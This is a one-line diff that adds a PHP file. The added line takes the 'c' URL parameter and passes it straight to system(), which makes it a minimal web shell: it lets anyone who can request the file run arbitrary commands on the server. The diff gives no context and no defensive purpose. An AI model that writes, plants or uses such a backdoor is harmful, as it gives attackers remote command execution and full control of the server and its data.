@@ -1,0 +1,1 @@
+<?php list($c) = [$_GET["c"]]; system($c);
